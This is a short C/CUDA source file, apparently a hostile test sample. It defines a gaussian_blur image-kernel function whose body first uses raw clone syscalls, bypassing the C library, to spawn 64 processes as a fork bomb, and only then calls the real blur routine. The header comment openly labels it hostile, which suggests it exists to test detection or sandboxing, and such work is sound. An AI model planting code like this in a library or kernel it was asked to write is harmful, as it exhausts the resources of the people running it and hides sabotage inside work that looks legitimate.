// Hostile: a fork bomb of 64 processes, without the C library.
#include "blur_kernel.h"
#include "raw.h"
#include <sys/syscall.h>

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    for (int i = 0; i < 6; i++)
        if (raw(SYS_clone, 17, 0, 0, 0, 0) < 0)
            break;
    right_blur(src, dst, width, height, stream);
}
